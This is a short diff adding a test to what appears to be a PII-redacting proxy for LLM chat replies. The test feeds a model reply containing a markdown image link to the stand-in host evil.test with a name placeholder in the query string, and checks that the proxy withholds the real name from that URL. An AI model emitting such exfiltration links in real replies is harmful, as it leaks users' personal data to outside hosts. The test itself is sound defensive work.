@@ -30,6 +30,13 @@ test('a whole reply: policy, rules, counts by entity, tokens by fate', async () 
   expect(response.headers.get('x-request-id')).toBe('req_openai');
 });
 
+test('what stays in the URL of a strange host is told', async () => {
+  upstream.script(jsonReply(completion('![x](https://evil.test/?q=[NAME_1]) [NAME_1]')));
+  const response = await proxy.chat(ask(TEXT));
+  await response.text();
+  expect(headersOf(response)['tokens']).toBe('issued=3;restored=1;unknown=0;withheld=1');
+});
+
 test('a clean text has a receipt too', async () => {
   const response = await proxy.chat(ask('Hello.'));
   expect(headersOf(response)).toEqual({ policy: 'safe-harbor', entities: 'none', tokens: 'issued=0;restored=0;unknown=0' });
